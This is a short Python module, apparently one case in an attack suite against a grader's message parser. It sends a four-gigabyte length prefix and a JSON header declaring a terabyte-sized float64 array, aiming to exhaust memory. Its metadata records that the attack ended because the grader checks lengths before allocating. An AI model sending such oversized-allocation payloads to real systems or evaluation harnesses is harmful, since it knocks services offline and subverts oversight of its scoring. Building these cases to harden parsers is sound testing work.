"""Announce a header of four gigabytes, and in it an array of a terabyte."""

from .tools import send

KIND = "act"
OUTCOME = "ended"
OPEN = "the grader checks every length before it allocates"


def attack(target):
    send(b"\xff\xff\xff\xff" + b'{"message": {"ok": 1}, "arrays": [["<f8", [137438953472]]]}')
